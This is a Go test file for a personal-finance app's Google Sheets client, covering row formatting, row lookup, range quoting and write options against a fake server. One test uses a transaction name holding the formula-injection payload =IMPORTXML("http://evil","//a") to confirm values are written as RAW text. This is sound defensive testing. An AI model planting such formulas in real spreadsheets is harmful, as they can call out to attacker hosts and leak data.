package google

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"sync"
	"testing"
	"time"

	goption "google.golang.org/api/option"
	gsheet "google.golang.org/api/sheets/v4"

	"fintrack/internal/core"
)

func TestRowValues(t *testing.T) {
	tx := core.Transaction{
		ID:        "tx-1",
		Name:      "Rent",
		Amount:    core.Money{Cents: -179900},
		Category:  "Rent",
		Type:      core.TypeExpense,
		Timestamp: time.Date(2026, time.October, 19, 4, 0, 0, 0, time.UTC),
		UserEmail: "asha@example.com",
	}
	got := RowValues(tx)
	want := []any{"tx-1", "19 October 2026", "Rent", "Rent", "expense", "-1799.00", "asha@example.com"}
	if len(got) != len(Header) {
		t.Fatalf("row has %d cells, header has %d", len(got), len(Header))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("cell %d = %v, want %v", i, got[i], want[i])
		}
	}
}

func TestFindRow(t *testing.T) {
	values := [][]any{
		{"ID"},
		{"tx-1"},
		{},
		{" tx-3 "},
	}
	tests := []struct {
		id   string
		want int
	}{
		{"tx-1", 2},
		{"tx-3", 4},
		{"ID", 0},
		{"missing", 0},
		{"", 0},
	}
	for _, tt := range tests {
		if got := FindRow(values, tt.id); got != tt.want {
			t.Errorf("FindRow(%q) = %d, want %d", tt.id, got, tt.want)
		}
	}
}

func TestRanges(t *testing.T) {
	if got := rowRange("Transactions", 5); got != "'Transactions'!A5:G5" {
		t.Errorf("rowRange() = %q", got)
	}
	if got := a1("Asha's Ledger", "A:A"); got != "'Asha''s Ledger'!A:A" {
		t.Errorf("a1() = %q", got)
	}
	r := deleteRowRange(0, 2)
	if r.StartIndex != 1 || r.EndIndex != 2 || r.Dimension != "ROWS" {
		t.Errorf("deleteRowRange() = %+v", r)
	}
}

func TestNewRequiresSpreadsheetID(t *testing.T) {
	if _, err := New(context.Background(), Config{}); err == nil {
		t.Fatal("expected error without spreadsheet ID")
	}
}

func TestNewRequiresCredentials(t *testing.T) {
	t.Setenv("GOOGLE_APPLICATION_CREDENTIALS", "")
	if _, err := New(context.Background(), Config{SpreadsheetID: "sheet"}); err == nil {
		t.Fatal("expected error without credentials")
	}
}

// fakeSheets answers the values endpoints and records the input option of
// every write.
type fakeSheets struct {
	mu      sync.Mutex
	ids     [][]any
	options []string
}

func (f *fakeSheets) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()
	w.Header().Set("Content-Type", "application/json")
	if r.Method == http.MethodGet {
		json.NewEncoder(w).Encode(map[string]any{"values": f.ids})
		return
	}
	f.options = append(f.options, r.URL.Query().Get("valueInputOption"))
	w.Write([]byte("{}"))
}

func newFakeClient(t *testing.T, fake *fakeSheets) *Client {
	t.Helper()
	srv := httptest.NewServer(fake)
	t.Cleanup(srv.Close)
	svc, err := gsheet.NewService(context.Background(),
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithHTTPClient(srv.Client()))
	if err != nil {
		t.Fatalf("sheets service: %v", err)
	}
	return &Client{svc: svc, spreadsheetID: "sheet-1", sheetName: "Transactions"}
}

func TestUpsertWritesLiteralValues(t *testing.T) {
	tx := core.Transaction{
		ID: "tx-1", Name: `=IMPORTXML("http://evil","//a")`, Category: "Rent",
		Amount: core.Money{Cents: -100}, Type: core.TypeExpense, Timestamp: time.Now(),
	}
	tests := []struct {
		name      string
		ids       [][]any
		wantCalls int
	}{
		{"empty sheet writes header and appends", nil, 2},
		{"new row appends", [][]any{{"ID"}}, 1},
		{"existing row updates", [][]any{{"ID"}, {"tx-1"}}, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fake := &fakeSheets{ids: tt.ids}
			c := newFakeClient(t, fake)
			if err := c.UpsertTransaction(context.Background(), tx); err != nil {
				t.Fatalf("UpsertTransaction() error = %v", err)
			}
			if len(fake.options) != tt.wantCalls {
				t.Fatalf("writes = %d, want %d", len(fake.options), tt.wantCalls)
			}
			for i, opt := range fake.options {
				if opt != "RAW" {
					t.Errorf("write %d valueInputOption = %q, want RAW", i, opt)
				}
			}
		})
	}
}
